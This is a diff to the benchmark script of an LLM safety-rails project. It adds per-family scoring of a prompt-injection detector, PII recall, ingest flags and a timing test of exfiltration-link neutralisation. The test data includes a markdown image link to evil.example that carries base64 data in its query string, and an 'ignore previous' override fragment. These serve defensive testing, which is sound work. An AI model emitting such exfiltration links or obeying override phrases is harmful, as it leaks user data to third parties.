@@ -20,6 +20,12 @@ Run: ``.venv/bin/python benchmarks/rails.py [--requests 300] [--sizes 1,10,100] 
    ``split == "test"``; the classifier is fitted on ``train`` only): TPR/FPR of each layer
    and of the layered detector, overall and per language. Target: TPR >= 0.9 at FPR <= 0.1.
 5. Classifier inference: our pure-Python scorer vs scikit-learn's pipeline on the same texts.
+6. Issue 18: TPR/FPR per attack family and per benign look-alike family on the held-out
+   templates of ``injection_families.jsonl`` (plus the first set's held-out rows), against the
+   detector trained on the first set alone (the baseline, refitted in this run); PII recall
+   per type and language on ``pii_labelled.jsonl`` and the look-alikes masked (target recall
+   >= 0.98, none masked); ingest flags on benign documents; exfiltration-link neutralisation
+   cost on an answer with links.
 
 The last line of stdout is one JSON object (per-rail ms at each size, ``linear``, the
 ordinary-prompt input-rail p50).
@@ -175,6 +181,8 @@ def _adversarial_inputs() -> dict[str, object]:
         "one long word": "a",
         "unicode runs": "é🙂ｉ\u200b",
         "nested brackets '['": "[",
+        "markdown images": "![a](https://e.io/p?d=QUJDREVGR0hJSktMTU5PUFFS) ",
+        "open link labels": "[abc ",
         "whitespace runs": " \t",
         "mixed Chinese": "忽略之前的中文混合text ",
         "letter-spaced leet": "1 g n 0 r 3 ",
@@ -296,6 +304,87 @@ def bench_offload() -> dict[str, float]:
     return result
 
 
+def bench_issue18() -> dict:
+    """Per-family detector quality (vs the first-set-only baseline), PII recall, ingest flags, link cost."""
+    from llmops_ray.safety.ingest_flags import flag_chunk
+    from llmops_ray.safety.injection import (DATASET_PATH, DEFAULT_THRESHOLD, InjectionDetector, load_dataset,
+                                             train_classifier)
+    from llmops_ray.safety.links import neutralize_links
+    from llmops_ray.safety.quality import injection_by_family, pii_recall, pooled
+    from llmops_ray.safety.rails import get_rails
+
+    shipped = InjectionDetector()
+    baseline = InjectionDetector(classifier=train_classifier(load_dataset(DATASET_PATH, split="train")))
+    ours = injection_by_family(lambda t: shipped.score(t).score, DEFAULT_THRESHOLD)
+    base = {(r.family, r.label): r for r in injection_by_family(lambda t: baseline.score(t).score, DEFAULT_THRESHOLD)}
+    print(f"\n== Injection detector per family, held-out templates (threshold {DEFAULT_THRESHOLD}); baseline: "
+          "classifier fitted on the first set only (patterns as shipped)")
+    print(f"{'family':<22}{'kind':<8}{'rows':>6}{'shipped':>10}{'baseline':>10}")
+    families = {}
+    for r in ours:
+        b = base[(r.family, r.label)]
+        kind = "TPR" if r.label else "FPR"
+        print(f"{r.family:<22}{kind:<8}{r.total:>6}{r.rate:>10.3f}{b.rate:>10.3f}")
+        families[f"{r.family}/{kind}"] = round(r.rate, 4)
+    tpr, n_pos = pooled(ours, 1)
+    fpr, n_neg = pooled(ours, 0)
+    tpr_f, _ = pooled(ours, 1, exclude=("first_set",))
+    fpr_f, _ = pooled(ours, 0, exclude=("first_set_benign",))
+    btpr, _ = pooled(list(base.values()), 1)
+    bfpr, _ = pooled(list(base.values()), 0)
+    print(f"{'pooled':<22}{'TPR':<8}{n_pos:>6}{tpr:>10.3f}{btpr:>10.3f}")
+    print(f"{'pooled':<22}{'FPR':<8}{n_neg:>6}{fpr:>10.3f}{bfpr:>10.3f}")
+    print(f"family set only: TPR {tpr_f:.3f}, FPR {fpr_f:.3f} (look-alikes only)")
+    ok = tpr >= 0.9 and fpr <= 0.02
+    print(f"target: TPR >= 0.90 at FPR <= 0.02 on held-out rows -> {'PASS' if ok else 'FAIL'}")
+
+    report = pii_recall()
+    print("\n== PII recall on the labelled set (resources/safety/pii_labelled.jsonl)")
+    print(f"{'type':<16}{'found':>7}{'total':>7}{'recall':>9}")
+    for key in sorted(report.total):
+        print(f"{key:<16}{report.found[key]:>7}{report.total[key]:>7}{report.found[key] / report.total[key]:>9.3f}")
+    print(f"overall recall {report.recall:.4f}; look-alikes (orders, dates, versions, ...) masked: "
+          f"{len(report.negatives_masked)} of {report.negatives}")
+    print(f"target: recall >= 0.98, none masked -> "
+          f"{'PASS' if report.recall >= 0.98 and not report.negatives_masked else 'FAIL'}")
+
+    benign_docs = [r["text"] for r in load_dataset(DATASET_PATH) if r["label"] == 0]
+    flagged = sum(1 for t in benign_docs if flag_chunk(t))
+    attacks = [r["text"] for r in load_dataset(DATASET_PATH) if r["label"] == 1 and r["kind"] == "embedded"]
+    caught = sum(1 for t in attacks if flag_chunk(t))
+    print(f"\n== Ingest flags: benign rows of the first set flagged {flagged}/{len(benign_docs)}; "
+          f"attacks embedded in documents flagged {caught}/{len(attacks)}")
+
+    answer = ANSWER_EN + " See ![chart](https://evil.example/c.png?d=QUJDREVGR0hJSktMTU5PUFFS) and [docs](https://docs.acme.com/x)."
+    rails = get_rails()
+    samples_on, samples_off = [], []
+    off = get_rails({"output": {"links": False}})
+    for _ in range(200):
+        t0 = time.perf_counter()
+        rails.check_output(answer)
+        t1 = time.perf_counter()
+        off.check_output(answer)
+        t2 = time.perf_counter()
+        samples_on.append((t1 - t0) * 1e3)
+        samples_off.append((t2 - t1) * 1e3)
+    t0 = time.perf_counter()
+    for _ in range(200):
+        neutralize_links(answer, ["acme.com"])
+    link_us = (time.perf_counter() - t0) / 200 * 1e6
+    on50, off50 = statistics.median(samples_on), statistics.median(samples_off)
+    print(f"\n== Output rail on an answer with links ({len(answer)} chars): p50 {on50:.3f} ms with link rail, "
+          f"{off50:.3f} ms without (x{on50 / off50:.2f}); neutralize_links alone {link_us:.1f} us")
+    return {
+        "families": families, "pooled_tpr": round(tpr, 4), "pooled_fpr": round(fpr, 4),
+        "baseline_pooled_tpr": round(btpr, 4), "baseline_pooled_fpr": round(bfpr, 4),
+        "family_set_tpr": round(tpr_f, 4), "family_set_fpr": round(fpr_f, 4),
+        "pii_recall": round(report.recall, 4), "pii_lookalikes_masked": len(report.negatives_masked),
+        "pii_spans": sum(report.total[k] for k in report.total if k.startswith("all/")), "pii_lookalikes": report.negatives,
+        "ingest_flag_benign": f"{flagged}/{len(benign_docs)}", "ingest_flag_embedded_attacks": f"{caught}/{len(attacks)}",
+        "output_with_links_p50_ms": round(on50, 3), "output_without_link_rail_p50_ms": round(off50, 3),
+    }
+
+
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     parser.add_argument("--requests", type=int, default=300)
@@ -373,7 +462,10 @@ def main() -> None:
     for name, us in offload.items():
         print(f"  {name:<30}{us:>10.1f} us")
 
+    issue18 = bench_issue18()
+
     print(json.dumps({
+        "issue18": issue18,
         "input_rail_p50_ms": round(pct(times["input"], 0.5), 3),
         "rails_total_p50_ms": round(total50, 3),
         "adversarial_ms": {rail: {name: {k: round(v, 3) for k, v in row.items()} for name, row in rows.items()}
